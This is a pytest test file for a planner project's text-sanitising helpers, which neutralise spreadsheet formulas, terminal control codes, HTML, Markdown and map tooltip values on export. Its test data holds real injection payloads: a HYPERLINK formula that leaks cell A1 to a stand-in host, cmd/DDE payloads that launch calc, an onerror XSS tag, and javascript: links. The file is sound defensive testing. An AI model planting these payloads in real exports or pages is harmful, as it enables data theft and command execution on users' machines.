"""Text from data files made safe on the way out: spreadsheet cells, terminals, HTML, Markdown, map tooltips."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.textsafe import (
    FORMULA_START,
    cell_text,
    html_text,
    is_formula_like,
    markdown_text,
    safe_frame,
    terminal_text,
    xlsx_text,
)

REPO = Path(__file__).resolve().parents[1]
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_an_apostrophe(payload: str) -> None:
    assert is_formula_like(payload)
    assert cell_text(payload) == "'" + payload


def test_plain_text_and_numbers_are_untouched() -> None:
    for value in ("Barnet", "St. Pancras & Somers Town", "", "1-2", -3.5, 7, None, np.nan):
        assert cell_text(value) is value


def test_safe_frame_changes_only_text_cells_and_headers() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "Ok", None], "cost": [-5.0, 2.0, 3.0], "=col": ["@x", "y", "z"]})
    out = safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "Ok"] and pd.isna(out["name"].iloc[2])
    assert out["cost"].tolist() == [-5.0, 2.0, 3.0]
    assert list(out.columns) == ["name", "cost", "'=col"] and out["'=col"].tolist() == ["'@x", "y", "z"]
    assert frame["name"].iloc[0] == "=1+1"  # the input is not modified


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.characters(exclude_characters="\r\n", exclude_categories=["Cs"]), max_size=12),
        min_size=1,
        max_size=6,
    )
)  # no lone surrogates: text read from UTF-8 files cannot hold them
def test_no_written_csv_cell_starts_a_formula(names: list[str]) -> None:
    buf = io.StringIO()
    safe_frame(pd.DataFrame({"name": names, "n": range(len(names))})).to_csv(buf, index=False)
    back = pd.read_csv(io.StringIO(buf.getvalue()), dtype=str, keep_default_na=False)["name"].tolist()
    assert not any(v.startswith(FORMULA_START) for v in back)
    assert [v[1:] if is_formula_like(n) else v for v, n in zip(back, names)] == names  # nothing else changes


def test_terminal_text_shows_controls_as_escapes() -> None:
    assert terminal_text("a\x1b[2Jb\rc\x07d\u202ee\x9bf") == "a\\x1b[2Jb\\x0dc\\x07d\\u202ee\\x9bf"
    assert terminal_text("line one\n\tline two") == "line one\n\tline two"


def test_html_and_markdown_text_are_literal() -> None:
    assert html_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    raw = "![x](http://example.invalid/p.png) [link](javascript:alert(1)) :red[big] $x$ <b>"
    md = markdown_text(raw)
    assert "](" not in md.replace("\\]\\(", "")
    assert re.sub(r"\\(.)", r"\1", md) == raw


def test_xlsx_text_removes_characters_the_format_forbids() -> None:
    assert xlsx_text("a\x01b\tc\nd") == "a\\x01b\tc\nd"


def test_xlsx_cells_are_typed_text_never_formulas(tmp_path: Path) -> None:
    import openpyxl

    from planner.finance.export import _workbook

    frame = pd.DataFrame({"option": [*PAYLOADS[:4], "ctrl\x01char"], "annual_cost": [1.0, 2.0, 3.0, 4.0, 5.0]})
    path = tmp_path / "f.xlsx"
    _workbook(path, [("=Sheet", [("=title", frame)])])  # used to raise or write live formulas
    with zipfile.ZipFile(path) as zf:
        xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula anywhere
    ws = openpyxl.load_workbook(path).worksheets[0]
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert PAYLOADS[0] in values and "ctrl\\x01char" in values
    assert all(c.data_type in ("s", "n", "inlineStr") for row in ws.iter_rows() for c in row)


def test_every_csv_writer_goes_through_write_csv() -> None:
    """No module writes a DataFrame with ``.to_csv(path)`` directly: only through ``write_csv`` or ``safe_frame``."""
    allowed = {
        "planner/report/outputs.py",  # write_csv itself
        "planner/inputs/pas_mapping.py",  # a derived input (codes and names read back as data), not an export
    }
    offenders = []
    for root in ("planner", "geo"):
        for path in sorted((REPO / root).rglob("*.py")):
            rel = str(path.relative_to(REPO))
            if rel in allowed:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                    continue
                neutralised = (
                    isinstance(node.func.value, ast.Call)
                    and isinstance(node.func.value.func, ast.Name)
                    and node.func.value.func.id == "safe_frame"
                )
                if (
                    node.func.attr == "to_csv"
                    and not neutralised
                    and (node.args or any(k.arg == "path_or_buf" for k in node.keywords))
                ):
                    offenders.append(f"{rel}:{node.lineno}")
    assert not offenders, offenders


# ------------------------------------------------------------------ the map's tooltips
def test_streamlit_floor_escapes_tooltips() -> None:
    import importlib.metadata

    from geo.webmap import STREAMLIT_ESCAPES_FROM, streamlit_escapes_tooltips

    text = (REPO / "pyproject.toml").read_text()
    floor = re.search(r'"streamlit>=(\d+)\.(\d+)"', text)
    assert floor is not None and (int(floor.group(1)), int(floor.group(2))) >= STREAMLIT_ESCAPES_FROM
    installed = tuple(int(p) for p in importlib.metadata.version("streamlit").split(".")[:2])
    assert installed >= STREAMLIT_ESCAPES_FROM and streamlit_escapes_tooltips()


def test_tooltip_templates_put_values_in_element_content_only() -> None:
    from geo.webmap import check_tooltip_template
    from planner.app.layers import TOOLTIP_HTML

    assert check_tooltip_template(TOOLTIP_HTML) == TOOLTIP_HTML
    for bad in ("<a href='{url}'>x</a>", "<span style='{css}'>x</span>", "<{tag}>"):
        with pytest.raises(ValueError, match="inside a tag"):
            check_tooltip_template(bad)


@pytest.mark.parametrize("escaped_by_streamlit", [True, False])
def test_tooltip_values_escaped_exactly_once(escaped_by_streamlit: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    import geo.webmap as webmap
    from geo.synthetic import synthetic_city
    from planner.app.layers import TOOLTIP_HTML

    layer = synthetic_city(seed=3, wards=8, boroughs=2, bcus=1).layer.frame
    layer.loc[0, "ward_name"] = "<img src=x onerror=alert(1)>"
    base = webmap.base_map(layer)
    monkeypatch.setattr(webmap, "streamlit_escapes_tooltips", lambda: escaped_by_streamlit)
    fields = [{"area": "a & b"} for _ in range(len(layer))]
    deck = webmap.ward_map(base, np.zeros((len(layer), 4), dtype=np.uint8), fields, view={"latitude": 51.5,
                           "longitude": 0.0, "zoom": 9}, tooltip_html=TOOLTIP_HTML)  # fmt: skip
    props = deck.layers[0].data["features"]
    names = {f["properties"]["ward_name"] for f in props}
    areas = {f["properties"]["area"] for f in props}
    if escaped_by_streamlit:  # Streamlit escapes in the browser: escaping here too would show "&amp;"
        assert "<img src=x onerror=alert(1)>" in names and areas == {"a & b"}
    else:
        assert "&lt;img src=x onerror=alert(1)&gt;" in names and areas == {"a &amp; b"}


def test_the_apps_workbook_stores_formula_names_as_text() -> None:
    """The app's plan.xlsx (Summary, Boroughs, Wards): ward and borough names like ``=1+1`` stay text."""
    import io

    import openpyxl

    from planner.api import solve
    from planner.app.exports import xlsx_bytes
    from planner.scenario import load_scenario

    scenario_path = REPO / "tests" / "data" / "hostile" / "formula_names.yaml"
    plan = solve(load_scenario(scenario_path), scenario_dir=scenario_path.parent)
    data = xlsx_bytes(plan)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    values = {c.value for c in cells}
    assert {"=1+1", "+SUM(1,2)", "@cmd"} <= values  # the names as they are, shown as text
    assert all(c.data_type in ("s", "n", "inlineStr") for c in cells)
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")


def test_safe_frame_never_changes_its_input_and_checks_mixed_columns() -> None:
    clean = pd.DataFrame({"ward": ["E05000001", "E05000002"], "n": [1, 2], "o": pd.Series([1, 2.5], dtype=object)})
    assert safe_frame(clean) is clean  # nothing to neutralise: no copy (a streamed export calls it per chunk)
    mixed = pd.DataFrame({"m": pd.Series([1, "=SUM(A1)", None, 2.0, "+44", "ok"], dtype=object)})
    out = safe_frame(mixed)
    assert out["m"].tolist()[:2] == [1, "'=SUM(A1)"] and out["m"].iloc[2] is None
    assert out["m"].tolist()[3:] == [2.0, "'+44", "ok"]
    assert mixed["m"].tolist()[1] == "=SUM(A1)"  # the input is untouched
    strings = pd.DataFrame({"s": pd.Series(["-1", "a", pd.NA], dtype="string")})
    assert safe_frame(strings)["s"].tolist()[:2] == ["'-1", "a"]
